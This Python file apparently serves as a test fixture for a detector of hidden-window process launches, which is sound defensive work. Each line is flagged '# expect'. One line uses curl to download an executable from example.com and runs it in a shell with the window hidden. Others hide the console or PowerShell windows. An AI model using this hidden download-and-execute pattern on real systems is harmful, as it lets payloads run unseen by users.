import subprocess
import sys

subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "Get-Date"])  # expect
subprocess.Popen([sys.executable, "worker.py"], creationflags=0x08000000)  # expect
subprocess.Popen([sys.executable, "worker.py"], creationflags=0x08000210)  # expect
flags = subprocess.CREATE_NEW_PROCESS_GROUP | subprocess.CREATE_NO_WINDOW
subprocess.Popen("curl -o x.exe https://example.com/x.exe && x.exe", shell=True, creationflags=flags)  # expect

import ctypes

ctypes.windll.user32.ShowWindow(ctypes.windll.kernel32.GetConsoleWindow(), 0)  # expect
